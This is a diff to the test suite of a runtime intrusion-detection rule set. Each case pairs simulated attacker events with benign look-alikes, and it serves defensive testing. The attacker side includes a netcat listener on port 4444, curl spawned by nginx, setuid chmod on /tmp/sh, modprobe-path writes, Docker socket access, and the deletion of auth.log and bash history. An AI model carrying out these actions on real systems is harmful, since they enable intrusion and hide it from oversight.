@@ -34,6 +34,7 @@ fn base(kind: Kind, comm: &str) -> Ev {
         a0: 0,
         a1: 0,
         addr: None,
+        ..NodeEvent::default()
     })
 }
 
@@ -63,6 +64,26 @@ impl Ev {
         self.0.path = Some(p.into());
         self
     }
+    fn gid(mut self, gid: u32) -> Self {
+        self.0.gid = gid;
+        self
+    }
+    fn path2(mut self, p: &str) -> Self {
+        self.0.path2 = Some(p.into());
+        self
+    }
+    fn fstype(mut self, t: &str) -> Self {
+        self.0.fstype = Some(t.into());
+        self
+    }
+    fn upper(mut self) -> Self {
+        self.0.exe_upper_layer = true;
+        self
+    }
+    fn memfd(mut self) -> Self {
+        self.0.exe_from_memfd = true;
+        self
+    }
     fn addr(mut self, a: &str, port: i64) -> Self {
         self.0.addr = Some(a.parse().unwrap());
         self.0.a1 = port;
@@ -87,6 +108,36 @@ fn open(comm: &str, path: &str, flags: i64) -> Ev {
 
 fn connect(comm: &str, addr: &str, port: i64) -> Ev {
     base(Kind::Connect, comm).addr(addr, port)
+}
+
+fn unix_connect(comm: &str, path: &str) -> Ev {
+    base(Kind::Connect, comm).path(path).a(1, 0)
+}
+
+/// accept4 of a connection from 127.0.0.1:`peer` on local port `port`.
+fn accept(comm: &str, peer: i64, port: i64) -> Ev {
+    let mut e = base(Kind::Accept, comm).addr("127.0.0.1", peer);
+    e.0.laddr = Some("127.0.0.1".parse().unwrap());
+    e.0.a2 = port;
+    e.0.a3 = 288;
+    e
+}
+
+/// A file event (unlink, chmod...) with its system call number in a1.
+fn file(kind: Kind, comm: &str, path: &str, a0: i64, nr: i64) -> Ev {
+    base(kind, comm).path(path).a(a0, nr)
+}
+
+fn rename(comm: &str, from: &str, to: &str) -> Ev {
+    base(Kind::Rename, comm).path(from).path2(to).a(0, 316)
+}
+
+fn mount(comm: &str, dev: &str, dir: &str, fstype: &str) -> Ev {
+    base(Kind::Mount, comm)
+        .path(dir)
+        .path2(dev)
+        .fstype(fstype)
+        .a(0, 165)
 }
 
 /// Rule ids raised by the event (after the process's own exec, so the table knows it).
@@ -327,7 +378,203 @@ fn cases() -> Vec<(&'static str, Vec<Ev>, Vec<Ev>)> {
             ],
             vec![exec("sshd"), open("sshd", "/root/.ssh/id_ed25519", 0)],
         ),
+        (
+            "PAL-NODE-028",
+            vec![exec("/tmp/payload -x").path("/tmp/payload").upper()],
+            vec![exec("/tmp/payload -x").path("/tmp/payload")],
+        ),
+        (
+            "PAL-NODE-028",
+            vec![exec("ls /").upper()],
+            vec![exec("ls /").upper().host()],
+        ),
+        (
+            "PAL-NODE-029",
+            vec![exec("x").path("/proc/self/fd/3").memfd().host()],
+            vec![exec("x").path("/proc/self/fd/3")],
+        ),
+        (
+            "PAL-NODE-029",
+            // argv[0] "runc" proves nothing inside a container...
+            vec![fexec("runc init")],
+            // ...but on the host it is runc's sealed copy of itself.
+            vec![fexec("runc init").host()],
+        ),
+        (
+            "PAL-NODE-030",
+            vec![
+                exec("chmod +x /tmp/x"),
+                file(Kind::Chmod, "chmod", "/tmp/x", 0o755, 90),
+            ],
+            vec![
+                exec("chmod +x /tmp/x"),
+                file(Kind::Chmod, "chmod", "/tmp/x", 0o755, 90).host(),
+            ],
+        ),
+        (
+            "PAL-NODE-030",
+            vec![
+                exec("dropper"),
+                file(Kind::Chmod, "dropper", "/dev/shm/k", 0o700, 91),
+            ],
+            vec![
+                exec("dpkg -i x.deb"),
+                file(Kind::Chmod, "dpkg", "/usr/bin/x", 0o755, 91),
+            ],
+        ),
+        (
+            "PAL-NODE-031",
+            vec![exec("perl -e x"), file(Kind::Memfd, "perl", "x", 0, 319)],
+            vec![
+                exec("java -jar a.jar"),
+                file(Kind::Memfd, "java", "x", 0, 319),
+            ],
+        ),
+        (
+            "PAL-NODE-032",
+            vec![mount("mount", "proc", "/mnt", "proc")],
+            vec![mount("runc:[2:INIT]", "proc", "/proc", "proc")],
+        ),
+        (
+            "PAL-NODE-032",
+            vec![mount("exe", "/proc/self/exe", "/run/x/runc.abc", "").parent("runc")],
+            // runc init, re-executed as /proc/self/exe, protecting its own binary
+            vec![
+                {
+                    let mut e = exec("runc init").path("/proc/self/exe").parent("runc");
+                    e.0.comm = "exe".into();
+                    e
+                },
+                mount("exe", "/proc/self/exe", "/run/x/runc.abc", "")
+                    .parent("runc")
+                    .a(4096, 165),
+            ],
+        ),
+        (
+            "PAL-NODE-032",
+            vec![mount("mount", "/srv", "/mnt", "none").a(4096 | 16384, 165)],
+            // unshare -m: mount("none", "/", NULL, MS_REC|MS_PRIVATE)
+            vec![mount("unshare", "none", "/", "").a(16384 | (1 << 18), 165)],
+        ),
+        (
+            "PAL-NODE-033",
+            vec![mount("mount", "/dev/vda1", "/mnt", "ext4")],
+            vec![mount("mount", "none", "/mnt", "tmpfs")],
+        ),
+        (
+            "PAL-NODE-033",
+            vec![mount("mount", "cgroup", "/tmp/cg", "cgroup")],
+            vec![mount("mount", "cgroup", "/tmp/cg", "cgroup").host()],
+        ),
+        (
+            "PAL-NODE-034",
+            vec![base(Kind::Namespace, "nsenter").a(0, 308)],
+            vec![base(Kind::Namespace, "runc:[2:INIT]").a(0, 308)],
+        ),
+        (
+            "PAL-NODE-034",
+            vec![base(Kind::Namespace, "unshare").a(0x1000_0000, 272)],
+            vec![base(Kind::Namespace, "unshare").a(0x1000_0000, 272).host()],
+        ),
+        (
+            "PAL-NODE-035",
+            vec![unix_connect("curl", "/var/run/docker.sock")],
+            vec![unix_connect("app", "/run/app/app.sock")],
+        ),
+        (
+            "PAL-NODE-036",
+            vec![base(Kind::Bpf, "loader").a(5, 321)],
+            vec![base(Kind::Bpf, "loader").a(5, 321).host()],
+        ),
+        (
+            "PAL-NODE-037",
+            vec![open("sh", "/proc/sys/kernel/modprobe", O_WRONLY_CREAT)],
+            vec![open("sh", "/proc/sys/kernel/modprobe", 0)],
+        ),
+        (
+            "PAL-NODE-038",
+            vec![open("dd", "/dev/mem", 0).host()],
+            vec![open("dd", "/dev/null", 0)],
+        ),
+        (
+            "PAL-NODE-039",
+            vec![file(Kind::Unlink, "rm", "/usr/bin/ls", 0, 263)],
+            vec![file(Kind::Unlink, "rm", "/tmp/ls", 0, 263)],
+        ),
+        (
+            "PAL-NODE-039",
+            vec![rename("mv", "/tmp/ls", "/bin/ls")],
+            vec![rename("dpkg", "/bin/ls.dpkg-new", "/bin/ls")],
+        ),
+        (
+            "PAL-NODE-040",
+            vec![rename("sed", "/etc/sedX1", "/etc/passwd")],
+            vec![rename("sed", "/srv/sedX1", "/srv/conf")],
+        ),
+        (
+            "PAL-NODE-041",
+            vec![file(Kind::Unlink, "rm", "/var/log/auth.log", 0, 87)],
+            vec![file(
+                Kind::Unlink,
+                "logrotate",
+                "/var/log/auth.log.4",
+                0,
+                87,
+            )],
+        ),
+        (
+            "PAL-NODE-041",
+            vec![open("sh", "/var/log/wtmp", 0o1001).host()],
+            vec![open("sh", "/var/log/wtmp", 0o2001).host()],
+        ),
+        (
+            "PAL-NODE-042",
+            vec![file(Kind::Unlink, "rm", "/root/.bash_history", 0, 263)],
+            vec![file(Kind::Unlink, "rm", "/root/.bashrc", 0, 263)],
+        ),
+        (
+            "PAL-NODE-043",
+            vec![file(Kind::Chmod, "chmod", "/tmp/sh", 0o4755, 90)],
+            vec![file(Kind::Chmod, "chmod", "/tmp/sh", 0o755, 90)],
+        ),
+        (
+            "PAL-NODE-044",
+            vec![base(Kind::Capset, "exploit").a(1 << 21, 1 << 21)],
+            vec![base(Kind::Capset, "app").a(1, 1)],
+        ),
+        (
+            "PAL-NODE-045",
+            vec![base(Kind::Setgid, "exploit").uid(1000).gid(1000).a(0, 106)],
+            vec![base(Kind::Setgid, "exploit").uid(1000).gid(0).a(0, 106)],
+        ),
+        (
+            "PAL-NODE-046",
+            vec![exec("nc -lp 4444"), accept("nc", 51000, 4444)],
+            vec![exec("nginx"), accept("nginx", 51000, 80)],
+        ),
+        (
+            "PAL-NODE-047",
+            vec![exec("perl -e listen"), accept("perl", 51000, 4444)],
+            vec![exec("perl /srv/app.pl"), accept("perl", 51000, 8080)],
+        ),
+        (
+            "PAL-NODE-048",
+            vec![exec("sshd -p 2222").host().parent("bash")],
+            vec![exec("sshd -D").host().parent("systemd")],
+        ),
+        (
+            "PAL-NODE-049",
+            vec![exec("curl -o /tmp/s http://x/s").parent("nginx")],
+            vec![exec("curl -o /tmp/s http://x/s").parent("bash")],
+        ),
     ]
+}
+
+/// An exec of a memfd through /proc/self/fd/3 (the process is named after the fd).
+fn fexec(cmdline: &str) -> Ev {
+    let mut e = exec(cmdline).path("/proc/self/fd/3").memfd();
+    e.0.comm = "3".into();
+    e
 }
 
 /// Marks an event as coming from the privileged container (see `hits`).
